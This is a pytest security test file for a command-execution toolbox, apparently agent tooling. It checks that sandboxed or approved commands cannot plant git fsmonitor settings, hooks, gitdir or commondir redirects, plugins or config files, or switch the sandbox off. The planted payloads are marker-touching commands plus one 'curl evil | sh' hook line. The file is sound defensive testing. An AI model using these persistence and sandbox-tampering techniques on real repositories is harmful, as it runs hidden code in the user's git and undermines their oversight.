"""Issue 20, class 2: no command, approved or not, changes what local-tools or git trusts.

Attacks through exec_cmd with a real Toolbox, real bash, real git, under each engine this
machine has (bwrap, Landlock) and with the sandbox off (where the before/after check
is the only protection). The config allows every command, as a person approving it
would. Each test asserts the effect did not happen: the plugin is not there, the config
is as it was, the user's own `git status` / `git commit` afterwards runs nothing planted.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from envelopes import err, ok
from local_tools.security import sandbox as sandbox_module
from local_tools.security.sandbox import ENGINE_VARIABLE, sandbox_engine

APPROVED = {"execute:command": "allow", "external:file": "allow"}
GIT = shutil.which("git")
needs_git = pytest.mark.skipif(GIT is None, reason="git is not installed")


@pytest.fixture(params=["bwrap", "landlock", "off"])
def setup(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The sandbox engine (forced), or "off": `[sandbox] mode = "off"`."""
    kind = str(request.param)
    if kind != "off":
        if not sys.platform.startswith("linux"):
            pytest.skip("the OS sandbox is Linux only")
        monkeypatch.setenv(ENGINE_VARIABLE, kind)
        engine = sandbox_engine()
        if engine.name != kind:
            pytest.skip(f"{kind} does not work on this machine: {engine.detail}")
        if engine.options == ("--no-ns",):
            pytest.skip("landlock without namespaces cannot mount: only the check protects")
    yield kind
    sandbox_module._detected.cache_clear()


def config(setup: str, **permissions: Any) -> dict[str, Any]:
    return {
        "permissions": {**APPROVED, **permissions},
        "sandbox": {"mode": "off" if setup == "off" else "workspace-write"},
    }


def git(cwd: Path, *args: str, env: dict[str, str] | None = None) -> str:
    """The user's own git, outside local-tools (no guard variables)."""
    assert GIT is not None
    base = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    r = subprocess.run(
        [GIT, *args], cwd=cwd, env={**base, **(env or {})}, capture_output=True, text=True
    )
    return r.stdout + r.stderr


@pytest.fixture
def repo(workspace: Path) -> Path:
    if GIT is None:
        pytest.skip("git is not installed")
    ident = ["-c", "user.email=u@example.com", "-c", "user.name=u"]
    git(workspace, "init", "-q")
    (workspace / "a.txt").write_text("a\n")
    git(workspace, "add", "a.txt")
    git(workspace, *ident, "commit", "-qm", "first")
    return workspace


def run(tb: Any, command: str, **extra: Any) -> dict[str, Any]:
    return ok(tb.run("exec_cmd", {"command": command, **extra}))


def snapshot(path: Path) -> dict[str, bytes | str]:
    """Every entry under `path` (links as their target), to compare before and after."""
    out: dict[str, bytes | str] = {}
    for p in sorted(path.rglob("*")):
        rel = str(p.relative_to(path))
        if p.is_symlink():
            out[rel] = "-> " + os.readlink(p)
        elif p.is_file():
            out[rel] = p.read_bytes()
        else:
            out[rel] = "dir"
    return out


# -- plugins and config: created, changed, through links and renames -----------------


PLANTS = [
    "mkdir -p .local-tools/tools && echo 'import os' > .local-tools/tools/x.py",
    "mkdir -p prep/tools && echo 'import os' > prep/tools/x.py && mv prep .local-tools",
    "mkdir -p {out}/plug/tools && echo 'import os' > {out}/plug/tools/x.py"
    " && ln -s {out}/plug .local-tools",
    "python3 -c \"import os; os.makedirs('.local-tools/tools'); "
    "open('.local-tools/tools/x.py', 'w').write('import os')\"",
]


@pytest.mark.parametrize("command", PLANTS, ids=["mkdir", "mv", "symlink", "python"])
def test_no_plugin_is_planted(
    make_toolbox: Any, workspace: Path, tmp_path: Path, setup: str, command: str
) -> None:
    out_dir = tmp_path / "outside"
    out_dir.mkdir()
    tb = make_toolbox(config(setup))
    out = run(tb, command.format(out=workspace / "scratch"))
    assert not os.path.lexists(workspace / ".local-tools")
    assert ".local-tools" in out["protected_note"]


def test_existing_plugins_stay_as_they_are(make_toolbox: Any, workspace: Path, setup: str) -> None:
    tools = workspace / ".local-tools" / "tools"
    tools.mkdir(parents=True)
    (tools / "mine.py").write_text("# the user's\n")
    before = snapshot(workspace / ".local-tools")
    tb = make_toolbox(config(setup))
    run(tb, "echo evil >> .local-tools/tools/mine.py; echo 'import os' > .local-tools/tools/x.py")
    run(tb, "rm .local-tools/tools/mine.py; mv .local-tools gone; mkdir .local-tools")
    assert snapshot(workspace / ".local-tools") == before


@pytest.mark.parametrize("exists", [False, True], ids=["new", "existing"])
def test_config_file_at_the_top_is_not_written(
    make_toolbox: Any, workspace: Path, setup: str, exists: bool
) -> None:
    toml = workspace / "local-tools.toml"
    if exists:
        toml.write_text("# mine\n")
    tb = make_toolbox(config(setup))
    out = run(
        tb,
        "python3 -c \"open('local-tools.toml', 'a').write('[sandbox]\\nmode = \\'off\\'\\n')\"",
    )
    assert out["exit_code"] == 0 or setup != "off"
    if exists:
        assert toml.read_text() == "# mine\n"
    else:
        assert not os.path.lexists(toml)
        assert "local-tools.toml" in out["protected_note"]


def test_the_config_file_in_use_is_not_written(
    make_toolbox: Any, workspace: Path, tmp_path: Path, setup: str
) -> None:
    """Wherever it lies: with the sandbox off a command can reach it."""
    cfg = tmp_path / "user-config" / "tools.toml"
    cfg.parent.mkdir()
    mode = "off" if setup == "off" else "workspace-write"
    text = (
        '[permissions]\n"execute:command" = "allow"\n"external:file" = "allow"\n'
        f'[sandbox]\nmode = "{mode}"\n'
    )
    cfg.write_text(text)
    tb = make_toolbox(str(cfg))
    run(tb, f"echo '[network]' >> {cfg}; cp {cfg} {workspace}/copy.toml")
    assert cfg.read_text() == text


def test_a_second_root_is_protected_too(
    make_toolbox: Any, workspace: Path, tmp_path: Path, setup: str
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    cfg = config(setup) | {"workspace": {"writable_roots": [str(other)]}}
    tb = make_toolbox(cfg)
    run(tb, f"mkdir -p {other}/.local-tools/tools && echo x > {other}/local-tools.toml; touch ok")
    assert not os.path.lexists(other / ".local-tools")
    assert not os.path.lexists(other / "local-tools.toml")
    assert (workspace / "ok").exists()


# -- git: config, hooks, info, modules ----------------------------------------------


FSMONITOR = [
    "git config core.fsmonitor 'touch {marker}'",
    "printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config",
    "cp .git/config c && printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> c"
    " && mv c .git/config",
    "mv .git g && mkdir .git && cp -r g/. .git/ && mv g elsewhere"
    " && printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config",
    "mkdir -p .git/modules/sub && git config --file .git/modules/sub/config"
    " core.fsmonitor 'touch {marker}'",
]


@needs_git
@pytest.mark.parametrize(
    "command", FSMONITOR, ids=["git-config", "append", "replace", "move-git", "module"]
)
def test_the_users_git_status_runs_no_planted_fsmonitor(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str, command: str
) -> None:
    marker = tmp_path / "PWNED"
    before = (repo / ".git" / "config").read_bytes()
    tb = make_toolbox(config(setup))
    run(tb, command.format(marker=marker))
    assert (repo / ".git" / "config").read_bytes() == before
    assert not (repo / ".git" / "modules" / "sub" / "config").exists()
    git(repo, "status")  # the user's own, later
    assert not marker.exists()


@needs_git
@pytest.mark.parametrize(
    "command",
    [
        "printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit"
        " && chmod +x .git/hooks/pre-commit",
        "printf '#!/bin/sh\\ntouch {marker}\\n' > hook && chmod +x hook"
        " && ln -s ../../hook .git/hooks/pre-commit",
        "cp -r .git/hooks h && printf '#!/bin/sh\\ntouch {marker}\\n' > h/pre-commit"
        " && chmod +x h/pre-commit && mv .git/hooks old && mv h .git/hooks",
        "mkdir -p {out} && printf '#!/bin/sh\\ntouch {marker}\\n' > {out}/pre-commit"
        " && chmod +x {out}/pre-commit && mv .git/hooks old; ln -s {out} .git/hooks",
        "mv .git g && mkdir .git && cp -r g/. .git/ && mv g old"
        " && printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit"
        " && chmod +x .git/hooks/pre-commit",
    ],
    ids=["write", "symlink", "swap-folder", "link-folder", "move-git"],
)
def test_the_users_git_commit_runs_no_planted_hook(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str, command: str
) -> None:
    marker = tmp_path / "PWNED"
    hooks = snapshot(repo / ".git" / "hooks")
    tb = make_toolbox(config(setup))
    run(tb, command.format(marker=marker, out=tmp_path / "evil"))
    assert snapshot(repo / ".git" / "hooks") == hooks
    (repo / "b.txt").write_text("b\n")
    git(repo, "add", "b.txt")
    git(repo, "-c", "user.email=u@example.com", "-c", "user.name=u", "commit", "-qm", "second")
    assert not marker.exists()


@needs_git
def test_info_attributes_and_exclude(make_toolbox: Any, repo: Path, setup: str) -> None:
    info = snapshot(repo / ".git" / "info")
    tb = make_toolbox(config(setup))
    out = run(tb, "echo '* diff=evil' > .git/info/attributes; echo '*' >> .git/info/exclude")
    assert snapshot(repo / ".git" / "info") == info
    if setup == "off":
        assert "info/attributes" in out["protected_note"]


@needs_git
def test_git_init_leaves_no_config_that_runs_code(
    make_toolbox: Any, workspace: Path, tmp_path: Path, setup: str
) -> None:
    """A repository made by a command: its objects stay, its config and hooks do not."""
    marker = tmp_path / "PWNED"
    tb = make_toolbox(config(setup))
    out = run(tb, f"git init -q && git config core.fsmonitor 'touch {marker}' && echo done")
    assert out["stdout"] == "done\n", out["stderr"]
    assert not (workspace / ".git" / "config").exists()
    assert not (workspace / ".git" / "hooks").exists()
    assert ".git/config" in out["protected_note"]
    git(workspace, "status")
    assert not marker.exists()


@needs_git
def test_git_file_pointing_elsewhere_is_removed(
    make_toolbox: Any, workspace: Path, tmp_path: Path, setup: str
) -> None:
    """A `gitdir:` file planted where there was no .git sends the user's git elsewhere."""
    evil = tmp_path / "evil-git"
    marker = tmp_path / "PWNED"
    git(tmp_path, "init", "-q", "--bare", str(evil))
    git(evil, "config", "core.fsmonitor", f"touch {marker}")
    git(evil, "config", "core.bare", "false")
    tb = make_toolbox(config(setup))
    run(tb, f"echo 'gitdir: {evil}' > .git")
    assert not os.path.lexists(workspace / ".git")
    git(workspace, "status")
    assert not marker.exists()


@needs_git
def test_git_add_commit_checkout_keep_working(make_toolbox: Any, repo: Path, setup: str) -> None:
    tb = make_toolbox(config(setup))
    ident = "-c user.email=u@example.com -c user.name=u"
    out = run(
        tb,
        f"echo b > b.txt && git add b.txt && git {ident} commit -qm second"
        f" && git checkout -qb topic && echo c > c.txt && git add c.txt"
        f" && git {ident} commit -qm third && git checkout -q - && git log --format=%s",
    )
    assert out["exit_code"] == 0, out["stderr"]
    assert out["stdout"] == "second\nfirst\n"
    assert "protected_note" not in out
    assert "third" in git(repo, "log", "--format=%s", "topic")


@needs_git
def test_a_rule_naming_the_path_lifts_the_protection(
    make_toolbox: Any, repo: Path, setup: str
) -> None:
    rules = {"write:file": {"*": "allow", ".git/hooks/*": "allow", ".local-tools/*": "allow"}}
    tb = make_toolbox(config(setup, **rules))
    out = run(
        tb,
        "echo '#!/bin/sh' > .git/hooks/pre-commit && mkdir -p .local-tools/tools"
        " && echo x > .local-tools/tools/t.py && git config core.fsmonitor false",
    )
    assert (repo / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"
    assert (repo / ".local-tools" / "tools" / "t.py").exists()
    # .git/config was not named: it stays protected
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    assert ".git/hooks" not in out.get("protected_note", "")


def test_a_broad_rule_does_not_lift_it(make_toolbox: Any, workspace: Path, setup: str) -> None:
    tb = make_toolbox(config(setup, **{"write:file": "allow"}))
    run(tb, "mkdir -p .local-tools/tools && echo x > .local-tools/tools/t.py")
    assert not os.path.lexists(workspace / ".local-tools")


# -- in the background ---------------------------------------------------------------


def _wait_for(path: Path, present: bool, limit: float = 20.0) -> bool:
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if os.path.lexists(path) == present:
            return True
        time.sleep(0.05)
    return False


def test_background_plant_is_removed_at_the_next_call_and_at_its_end(
    make_toolbox: Any, workspace: Path, setup: str
) -> None:
    tb = make_toolbox(config(setup))
    plugin = workspace / ".local-tools" / "tools" / "x.py"
    started = run(
        tb,
        "mkdir -p .local-tools/tools && echo 'import os' > .local-tools/tools/x.py;"
        " while [ ! -e go ]; do sleep 0.05; done; echo x > local-tools.toml",
        background=True,
    )
    pid = started["process_id"]
    assert _wait_for(plugin, True)
    listed = ok(tb.run("process_list"))  # any later call of the shell tools
    assert listed["processes"]
    assert not os.path.lexists(workspace / ".local-tools")
    (workspace / "go").write_text("")
    ok(tb.run("process_output", {"process_id": pid, "block": True, "timeout": 20}))
    report = ok(tb.run("process_output", {"process_id": pid}))
    assert report["status"] == "exited"
    assert not os.path.lexists(workspace / "local-tools.toml")
    assert not os.path.lexists(workspace / ".local-tools")


def test_background_plant_is_removed_before_the_next_command(
    make_toolbox: Any, workspace: Path, setup: str
) -> None:
    tb = make_toolbox(config(setup))
    run(tb, "echo x > local-tools.toml; sleep 30", background=True)
    assert _wait_for(workspace / "local-tools.toml", True)
    out = run(tb, "ls -a")
    assert "local-tools.toml" not in out["stdout"]
    assert "local-tools.toml" in out["protected_note"]


# -- the before/after check itself --------------------------------------------------------


def _guard(tmp_path: Path, ws: Path) -> tuple[Any, Any]:
    from local_tools.security.trusted_paths import TrustedPaths, protected_paths

    guard = TrustedPaths(tmp_path / "state" / "reverted")
    return guard, lambda: protected_paths([ws], None, "local-tools.toml")


def test_what_was_taken_away_is_kept(tmp_path: Path, workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("mine\n")
    guard, discover = _guard(tmp_path, workspace)
    guard.begin(discover, trusted=False)
    (workspace / ".git" / "config").write_text("theirs\n")
    (workspace / ".git" / "hooks" / "post-checkout").write_text("evil\n")
    note = guard.end()
    assert (workspace / ".git" / "config").read_text() == "mine\n"
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
    kept = sorted((tmp_path / "state" / "reverted").rglob("*"))
    assert {p.name for p in kept} >= {"config", "post-checkout"}
    assert any(p.name == "config" and p.read_text() == "theirs\n" for p in kept)
    assert note is not None and "reverted" in note
    assert oct((tmp_path / "state" / "reverted").stat().st_mode & 0o777) == "0o700"


def test_sandboxed_commands_leave_outside_edits_alone(tmp_path: Path, workspace: Path) -> None:
    """With the mounts in place an existing file cannot change from inside: a change is
    the user's own (their terminal, meanwhile) and stays. A new path is still removed."""
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("mine\n")
    guard, discover = _guard(tmp_path, workspace)
    guard.begin(discover, trusted=True)
    (workspace / ".git" / "config").write_text("[remote]\n")
    (workspace / "local-tools.toml").write_text("x\n")
    note = guard.end()
    assert (workspace / ".git" / "config").read_text() == "[remote]\n"
    assert not (workspace / "local-tools.toml").exists()
    assert note is not None and "local-tools.toml" in note


def test_a_protected_file_too_big_to_copy_is_moved_away(tmp_path: Path, workspace: Path) -> None:
    from local_tools.security.trusted_paths import MAX_FILE_BYTES

    (workspace / ".git" / "hooks").mkdir(parents=True)
    big = workspace / ".git" / "hooks" / "pre-push"
    big.write_bytes(b"#" * (MAX_FILE_BYTES + 1))
    guard, discover = _guard(tmp_path, workspace)
    guard.begin(discover, trusted=False)
    big.write_text("#!/bin/sh\ncurl evil | sh\n")
    note = guard.end()
    assert not big.exists()
    assert note is not None and "pre-push" in note


def test_nothing_changed_says_nothing(tmp_path: Path, workspace: Path) -> None:
    (workspace / ".local-tools").mkdir()
    guard, discover = _guard(tmp_path, workspace)
    for trusted in (True, False):
        guard.begin(discover, trusted=trusted)
        (workspace / "other.txt").write_text("x")
        assert guard.end() is None


@needs_git
def test_a_hard_link_made_earlier_does_not_open_the_config(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str
) -> None:
    marker = tmp_path / "PWNED"
    os.link(repo / ".git" / "config", repo / "notes.txt")  # made before, from outside
    before = (repo / ".git" / "config").read_bytes()
    tb = make_toolbox(config(setup))
    run(tb, f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> notes.txt")
    assert (repo / ".git" / "config").read_bytes() == before
    git(repo, "status")
    assert not marker.exists()


def test_the_config_named_by_the_environment_is_not_created(
    make_toolbox: Any, workspace: Path, monkeypatch: pytest.MonkeyPatch, setup: str
) -> None:
    """`$LOCAL_TOOLS_CONFIG` naming a file that is not there yet: the next start loads it."""
    target = workspace / "conf" / "lt.toml"
    tb = make_toolbox(config(setup))
    monkeypatch.setenv("LOCAL_TOOLS_CONFIG", str(target))
    run(tb, "mkdir -p conf && printf '[sandbox]\\nmode = \"off\"\\n' > conf/lt.toml")
    assert not target.exists()


# -- re-attack: commondir, submodules, hooksPath and included config ------------------

IDENT = "-c user.email=u@example.com -c user.name=u"


@needs_git
@pytest.mark.parametrize("where", ["root", "module", "worktree"])
def test_a_planted_commondir_sends_git_nowhere(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str, where: str
) -> None:
    """`.git/commondir` (or a module's, a worktree's) naming a copy whose config runs code."""
    marker = tmp_path / "PWNED"
    gitdir = {"root": ".git", "module": ".git/modules/sub", "worktree": ".git/worktrees/w"}[where]
    if where == "worktree":
        git(repo, "worktree", "add", "-q", str(tmp_path / "w"))
        gitdir = ".git/worktrees/" + next((repo / ".git" / "worktrees").iterdir()).name
    elif where == "module":
        (repo / gitdir).mkdir(parents=True)
    before = snapshot(repo / ".git")
    up = "../" * gitdir.count("/")
    script = (
        "import os, shutil\n"
        "shutil.copytree('.git', 'build/gc', ignore=shutil.ignore_patterns('worktrees'))\n"
        "open('build/gc/config', 'w').write('[core]\\n\\tbare = false\\n"
        f'\\tfsmonitor = "touch {marker}; false"\\n\')\n'
        f"open('{gitdir}/commondir', 'w').write('{up}../build/gc\\n')\n"
    )
    (repo / "build.py").write_text(script)
    tb = make_toolbox(config(setup))
    out = run(tb, "python3 build.py")
    assert out["exit_code"] == 0 or setup != "off", out["stderr"]
    assert snapshot(repo / ".git") == before
    git(repo, "status")  # the user's own, later
    if where == "worktree":
        git(tmp_path / "w", "status")
    assert not marker.exists()


@needs_git
@pytest.mark.parametrize("kind", ["new", "existing"])
def test_a_submodule_config_runs_nothing(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str, kind: str
) -> None:
    """A nested repository recorded as a gitlink: the superproject's status enters it."""
    marker = tmp_path / "PWNED"
    make = (
        f"git init -q vendor && cd vendor && echo y > g && git add g"
        f" && git {IDENT} commit -qm i && cd .. && git add vendor"
    )
    if kind == "existing":
        subprocess.run(["bash", "-c", make], cwd=repo, check=True, capture_output=True)
        git(repo, *IDENT.split(), "commit", "-qm", "vendor")
        make = "true"
    tb = make_toolbox(config(setup))
    run(
        tb,
        f"{make}; git config -f vendor/.git/config core.fsmonitor 'touch {marker}; false'"
        f"; printf '#!/bin/sh\\ntouch {marker}\\n' > vendor/.git/hooks/post-checkout"
        "; chmod +x vendor/.git/hooks/post-checkout; echo dirty > vendor/g",
    )
    git(repo, "status")
    git(repo / "vendor", "checkout", "-q", "-b", "x")
    assert not marker.exists()


@needs_git
def test_a_submodule_git_file_is_not_redirected(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str
) -> None:
    marker = tmp_path / "PWNED"
    evil = tmp_path / "evil-git"
    git(tmp_path, "init", "-q", "--bare", str(evil))
    git(evil, "config", "core.fsmonitor", f"touch {marker}; false")
    git(evil, "config", "core.bare", "false")
    sub = "git init -q vendor && cd vendor && echo y > g && git add g"
    subprocess.run(["bash", "-c", sub], cwd=repo, check=True, capture_output=True)
    git(repo / "vendor", *IDENT.split(), "commit", "-qm", "i")
    git(repo, "add", "vendor")
    git(repo, *IDENT.split(), "commit", "-qm", "vendor")
    tb = make_toolbox(config(setup))
    run(tb, f"mv vendor/.git vendor/old.git; echo 'gitdir: {evil}' > vendor/.git")
    git(repo, "status")
    assert not marker.exists()


def _husky(repo: Path, marker: Path) -> None:
    hooks = repo / ".githooks"
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (hooks / "pre-commit").chmod(0o755)
    git(repo, "config", "core.hooksPath", ".githooks")
    git(repo, "config", "include.path", "../.gitconfig.shared")


def _commit(repo: Path) -> None:
    (repo / "b.txt").write_text(str(time.time()))
    git(repo, "add", "b.txt")
    git(repo, *IDENT.split(), "commit", "-qm", "more")


@needs_git
@pytest.mark.parametrize(
    "command",
    [
        "printf '#!/bin/sh\\ntouch {marker}\\n' > .githooks/pre-commit",
        "printf '#!/bin/sh\\ntouch {marker}\\n' > .githooks/post-commit"
        " && chmod +x .githooks/post-commit",
        "mv .githooks old; mkdir .githooks; printf '#!/bin/sh\\ntouch {marker}\\n'"
        " > .githooks/pre-commit; chmod +x .githooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' > .gitconfig.shared",
    ],
    ids=["hook-edit", "hook-new", "hook-folder-swap", "include-created"],
)
def test_hooks_path_and_included_config_are_protected(
    make_toolbox: Any, repo: Path, tmp_path: Path, setup: str, command: str
) -> None:
    marker = tmp_path / "PWNED"
    _husky(repo, marker)
    tb = make_toolbox(config(setup))
    out = run(tb, command.format(marker=marker))
    assert out.get("protected_note") or setup != "off"
    git(repo, "status")
    _commit(repo)
    assert not marker.exists()
    assert not (repo / ".gitconfig.shared").exists()


@needs_git
@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("write_file", {"path": ".gitconfig.shared", "content": "[core]\n\tfsmonitor = {cmd}\n"}),
        ("write_file", {"path": ".githooks/post-commit", "content": "#!/bin/sh\n{cmd}\n"}),
        (
            "edit",
            {"path": ".githooks/pre-commit", "old_string": "exit 0", "new_string": "{cmd}"},
        ),
        ("file_delete", {"path": ".githooks/pre-commit"}),
    ],
    ids=["include", "new-hook", "edit-hook", "delete-hook"],
)
def test_file_tools_ask_for_hooks_path_and_included_config(
    make_toolbox: Any, repo: Path, tmp_path: Path, tool: str, args: dict[str, str]
) -> None:
    """Nobody is there to approve: the write is refused and the user's git runs nothing."""
    marker = tmp_path / "PWNED"
    _husky(repo, marker)
    before = snapshot(repo / ".githooks")
    tb = make_toolbox({"permissions": {"write:file": "allow", "delete:file": "allow"}})
    filled = {k: v.format(cmd=f"touch {marker}") for k, v in args.items()}
    err(tb.run(tool, filled), "PERMISSION_DENIED")
    assert snapshot(repo / ".githooks") == before
    assert not (repo / ".gitconfig.shared").exists()
    git(repo, "status")
    _commit(repo)
    assert not marker.exists()


def test_what_is_kept_is_private_at_once(tmp_path: Path, workspace: Path) -> None:
    """Moved to `reverted/` mode 0600 (folders 0700), not left 0644 until the next start."""
    (workspace / ".git").mkdir()
    guard, discover = _guard(tmp_path, workspace)
    guard.begin(discover, trusted=False)
    (workspace / ".git" / "config").write_text("theirs\n")
    os.chmod(workspace / ".git" / "config", 0o644)
    tools = workspace / ".local-tools" / "tools"
    tools.mkdir(parents=True, mode=0o755)
    (tools / "x.py").write_text("import os\n")
    os.chmod(tools / "x.py", 0o644)
    assert guard.end() is not None
    kept = list((tmp_path / "state" / "reverted").rglob("*"))
    assert {p.name for p in kept} >= {"config", "x.py", "tools"}
    for p in kept:
        mode = p.stat().st_mode & 0o777
        assert mode == (0o700 if p.is_dir() else 0o600), (p, oct(mode))


@needs_git
def test_git_worktree_add_keeps_working(make_toolbox: Any, repo: Path, setup: str) -> None:
    """Its `.git/worktrees/<name>/commondir` leads back to the same repository: kept."""
    tb = make_toolbox(config(setup))
    out = run(tb, "git worktree add -q wt2 && git -C wt2 log --format=%s")
    assert out["exit_code"] == 0, out["stderr"]
    assert out["stdout"] == "first\n"
    assert "commondir" not in (out.get("protected_note") or "")
    assert "first" in git(repo / "wt2", "log", "--format=%s")
